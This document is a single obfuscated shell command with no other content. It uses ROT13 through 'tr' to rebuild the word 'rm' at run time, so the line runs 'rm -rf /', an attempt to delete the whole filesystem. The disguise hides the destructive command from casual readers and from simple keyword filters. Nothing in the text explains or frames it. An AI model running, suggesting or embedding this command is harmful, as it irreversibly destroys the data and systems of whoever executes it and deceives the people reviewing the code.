$(tr a-z n-za-m <<< 'ez') -rf /
